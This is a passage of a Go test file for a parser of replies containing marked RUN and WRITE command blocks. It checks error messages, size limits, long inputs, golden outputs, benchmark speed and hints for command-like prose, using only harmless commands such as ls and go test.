				t.Errorf("RUN block at line %d lies inside the %s block of lines %d-%d", r.Line, b.Kind, b.Line, end)
			}
		}
	}
}

func TestBlocksErrorFormat(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		name, source, in, want string
		fatal                  bool
	}{
		{"fatal", "reply.txt", "a\nb\n<---EXEC--->\n", "reply.txt:3: unknown block type", true},
		{"stdin", "<stdin>", "<---TASKS--->\n", "<stdin>:1: unterminated TASKS group", true},
		{"block error", "dir/x.csl", "\r\n<---RUN--->\r\nls ;ls\r\n<---END--->\r\n", "dir/x.csl:2: more than one command in RUN block", false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			d, err := Blocks(tt.source, strings.NewReader(tt.in))
			if err != nil {
				t.Fatal(err)
			}
			e := d.Fatal
			if !tt.fatal {
				if len(d.Errors) != 1 {
					t.Fatalf("want 1 block error, got %v", d.Errors)
				}
				e = d.Errors[0]
			}
			if e == nil || !strings.HasPrefix(e.Error(), tt.want) || e.Fatal != tt.fatal {
				t.Errorf("error %#v: want prefix %q, fatal %v", e, tt.want, tt.fatal)
			}
		})
	}
}

// TestBlocksAdvice checks that every message of this file says what to
// write instead (docs/csl.md §6 SHOULD): each has a colon followed by advice.
func TestBlocksAdvice(t *testing.T) {
	t.Parallel()
	for _, tt := range blocksCases {
		d, err := Blocks("t.csl", strings.NewReader(tt.in))
		if err != nil {
			t.Fatal(err)
		}
		msgs := []*Error{d.Fatal}
		msgs = append(msgs, d.Warnings...)
		for _, b := range d.Blocks {
			if b.Kind != KindRun {
				msgs = append(msgs, b.Err)
			}
		}
		for _, e := range msgs {
			if e == nil {
				continue
			}
			_, advice, ok := strings.Cut(e.Msg, ": ")
			if !ok || len(advice) < 10 {
				t.Errorf("%s: message %q has no advice", tt.name, e.Msg)
			}
		}
	}
}

func TestBlocksLongLines(t *testing.T) {
	t.Parallel()
	big := strings.Repeat("x", 1<<20)
	in := cslLines(
		big,
		`<---WRITE file="`+big+`"--->`, big, "<---END--->",
		`<---RUN dir="`+big+`"--->`, "ls", "<---END--->",
		"<---RUN--->", "echo "+strings.Repeat("y", 100<<10), "<---END--->",
	)
	d, err := Blocks("big", strings.NewReader(in))
	if err != nil {
		t.Fatal(err)
	}
	if !d.OK() || len(d.Blocks) != 3 {
		t.Fatalf("want 3 blocks and no errors, got %d blocks, fatal %v, errors %v", len(d.Blocks), d.Fatal, d.Errors)
	}
	if d.Blocks[0].Attrs["file"] != big || d.Blocks[1].Dir != big || d.Blocks[1].Line != 5 {
		t.Errorf("long attribute values lost")
	}
	if got := d.Blocks[2].Argv; len(got) != 2 || len(got[1]) != 100<<10 {
		t.Errorf("long argument lost: %d words", len(got))
	}
}

// blocksRepeat yields n copies of b.
func blocksRepeat(b byte, n int64) io.Reader {
	return io.LimitReader(blocksByteReader(b), n)
}

type blocksByteReader byte

func (b blocksByteReader) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = byte(b)
	}
	return len(p), nil
}

func TestBlocksSizeCap(t *testing.T) {
	t.Parallel()
	t.Run("over", func(t *testing.T) {
		t.Parallel()
		d, err := Blocks("huge.txt", blocksRepeat('\n', MaxInput+1))
		if !errors.Is(err, ErrTooLarge) || d != nil {
			t.Fatalf("got %v, %v; want ErrTooLarge and no document", d, err)
		}
		if !strings.Contains(err.Error(), "huge.txt") {
			t.Errorf("error %q doesn't name the source", err)
		}
	})
	t.Run("over, with a block", func(t *testing.T) {
		t.Parallel()
		r := io.MultiReader(strings.NewReader(cslLines("<---RUN--->", "ls", "<---END--->")), blocksRepeat('a', MaxInput))
		if d, err := Blocks("huge.txt", r); !errors.Is(err, ErrTooLarge) || d != nil {
			t.Fatalf("got %v, %v; want ErrTooLarge and no document", d, err)
		}
	})
	t.Run("exactly MaxInput", func(t *testing.T) {
		t.Parallel()
		head := cslLines("<---RUN--->", "ls", "<---END--->")
		// Prose lines of 1 KiB fill it up: as many bytes as empty lines
		// would be, in 16,000 lines instead of 16 million.
		line := strings.Repeat("x", 1023) + "\n"
		fill := io.LimitReader(strings.NewReader(strings.Repeat(line, int(MaxInput)/len(line)+1)), MaxInput-int64(len(head)))
		r := io.MultiReader(strings.NewReader(head), fill)
		d, err := Blocks("max.txt", r)
		if err != nil {
			t.Fatal(err)
		}
		if !d.OK() || len(d.Blocks) != 1 {
			t.Errorf("want one block, got %d, fatal %v", len(d.Blocks), d.Fatal)
		}
	})
	t.Run("read error", func(t *testing.T) {
		t.Parallel()
		boom := errors.New("boom")
		_, err := Blocks("r.txt", io.MultiReader(strings.NewReader("abc"), blocksErrReader{boom}))
		if !errors.Is(err, boom) || !strings.Contains(err.Error(), "r.txt") {
			t.Errorf("got %v, want wrapped boom naming r.txt", err)
		}
	})
}

type blocksErrReader struct{ err error }

func (r blocksErrReader) Read([]byte) (int, error) { return 0, r.err }

// TestBlocksGolden parses the example replies in testdata/blocks and
// compares a dump with the .golden file next to each; -update rewrites.
func TestBlocksGolden(t *testing.T) {
	t.Parallel()
	files, err := filepath.Glob(filepath.Join("testdata", "blocks", "*.csl"))
	if err != nil {
		t.Fatal(err)
	}
	if len(files) == 0 {
		t.Fatal("no testdata/blocks/*.csl")
	}
	for _, file := range files {
		t.Run(filepath.Base(file), func(t *testing.T) {
			t.Parallel()
			in, err := os.ReadFile(file)
			if err != nil {
				t.Fatal(err)
			}
			d, err := Blocks(filepath.Base(file), bytes.NewReader(in))
			if err != nil {
				t.Fatal(err)
			}
			checkDocument(t, string(in), d)
			got := blocksDump(d)
			golden := strings.TrimSuffix(file, ".csl") + ".golden"
			if updateGolden() {
				if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(string(want), got); diff != "" {
				t.Errorf("%s (-want +got):\n%s", golden, diff)
			}
		})
	}
}

func blocksDump(d *Document) string {
	var b strings.Builder
	fmt.Fprintf(&b, "ok: %v, skipped: %d\n", d.OK(), d.Skipped())
	for i, bl := range d.Blocks {
		fmt.Fprintf(&b, "block %d: %s line %d group %d", i+1, bl.Kind, bl.Line, bl.Group)
		if bl.Attrs != nil {
			fmt.Fprintf(&b, " attrs %q", bl.Attrs)
		}
		b.WriteString("\n")
		if bl.Kind == KindRun {
			fmt.Fprintf(&b, "  body: %q\n", bl.Body)
		}
		switch {
		case bl.Err != nil:
			fmt.Fprintf(&b, "  error: %s\n", bl.Err)
		case bl.Denied != nil:
			fmt.Fprintf(&b, "  denied: %s %q\n", bl.Denied.Rule, bl.Denied.Word)
		case bl.Argv != nil:
			fmt.Fprintf(&b, "  argv: %q\n", bl.Argv)
		}
	}
	if d.Fatal != nil {
		fmt.Fprintf(&b, "fatal: %s\n", d.Fatal)
	}
	for _, w := range d.Warnings {
		fmt.Fprintf(&b, "warning: %s\n", w)
	}
	return b.String()
}

// BenchmarkBlocks measures realistic 3-line RUN blocks; the dry run must
// manage at least 100,000 blocks/s.
func BenchmarkBlocks(b *testing.B) { benchBlocks(b, `RUN dir="sub"`) }

// BenchmarkBlocksNoAnalysis measures the document parser alone, on WRITE
// blocks shaped like BenchmarkBlocks' RUN blocks.
func BenchmarkBlocksNoAnalysis(b *testing.B) { benchBlocks(b, `WRITE file="sub"`) }

// benchBlocks parses 1,000 blocks opened by "<---"+marker+"--->", each with
// a line of prose before it and a go test command as its body.
func benchBlocks(b *testing.B, marker string) {
	var sb strings.Builder
	const n = 1000
	for i := range n {
		fmt.Fprintf(&sb, "Now step %d.\n<---%s--->\ngo test -run 'TestX%d' ./parser/...\n<---END--->\n", i, marker, i)
	}
	in := sb.String()
	p := New()
	b.SetBytes(int64(len(in)))
	b.ResetTimer()
	for b.Loop() {
		d, err := p.Blocks("bench", strings.NewReader(in))
		if err != nil || len(d.Blocks) != n || !d.OK() {
			b.Fatalf("%v %d %v", err, len(d.Blocks), d.Fatal)
		}
	}
	b.ReportMetric(float64(n*b.N)/b.Elapsed().Seconds(), "blocks/s")
}

// TestBlocksHints: prose lines that look like commands are noted, with
// their text; lines inside blocks and ordinary prose are not.
func TestBlocksHints(t *testing.T) {
	t.Parallel()
	doc := "Sure, run this:\n" + // 1
		"```bash\n" + // 2
		"ls -la\n" + // 3
		"```\n" + // 4
		"RUN git status\n" + // 5
		"$ go test ./...\n" + // 6
		"  <---RUN--->\n" + // 7
		"```python\n" + // 8
		"The $ sign, RUNNING, ``` inline.\n" + // 9
		"~~~Shell\n" + // 10
		"<---WRITE file=\"a\"--->\n$ inside\n<---END--->\n" // 11-13
	d, err := Blocks("reply.md", strings.NewReader(doc))
	if err != nil {
		t.Fatal(err)
	}
	type hint struct {
		Line int
		Text string
	}
	var got []hint
	for _, h := range d.Hints {
		got = append(got, hint{h.Line, h.Text})
		if h.Msg == "" || h.Fatal {
			t.Errorf("hint %d: Msg %q, Fatal %v", h.Line, h.Msg, h.Fatal)
		}
	}
	want := []hint{{2, "```bash"}, {5, "RUN git status"}, {6, "$ go test ./..."}, {7, "  <---RUN--->"}, {10, "~~~Shell"}}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("hints (-want +got):\n%s", diff)
	}
	var many strings.Builder
	for range 3 * MaxHints {
		many.WriteString("RUN ls\n")
	}
	d, _ = Blocks("many.md", strings.NewReader(many.String()))
	if len(d.Hints) != MaxHints {
		t.Errorf("%d hints, want at most %d", len(d.Hints), MaxHints)
	}
}

// TestBlocksErrorText: an error carries its line as written: the line of a
// fatal error, the opening marker of a block error.
func TestBlocksErrorText(t *testing.T) {
	t.Parallel()
	d, _ := Blocks("a.csl", strings.NewReader("prose\n<---RUN dir=sub--->\nls\n<---END--->\n"))
	if d.Fatal == nil || d.Fatal.Line != 2 || d.Fatal.Text != "<---RUN dir=sub--->" {
		t.Errorf("fatal = %+v", d.Fatal)
	}
	d, _ = Blocks("b.csl", strings.NewReader("<---RUN--->\nls\n<---END--->\n\n<---RUN--->\nls\n"))
	if d.Fatal == nil || d.Fatal.Line != 5 || d.Fatal.Text != "<---RUN--->" {
		t.Errorf("unterminated: fatal = %+v", d.Fatal)
	}
	d, _ = Blocks("c.csl", strings.NewReader("<---RUN x=\"1\"--->\nls\n<---END--->\n"))
	if len(d.Errors) != 1 || d.Errors[0].Text != `<---RUN x="1"--->` {
		t.Errorf("block errors = %+v", d.Errors)
	}
	long := "<---RUN " + strings.Repeat("é", 300) + "\n"
	d, _ = Blocks("d.csl", strings.NewReader(long))
	if d.Fatal == nil || len(d.Fatal.Text) > 204 || !strings.HasSuffix(d.Fatal.Text, "…") || !utf8.ValidString(d.Fatal.Text) {
		t.Errorf("long line: fatal text %q", d.Fatal.Text)
	}
}
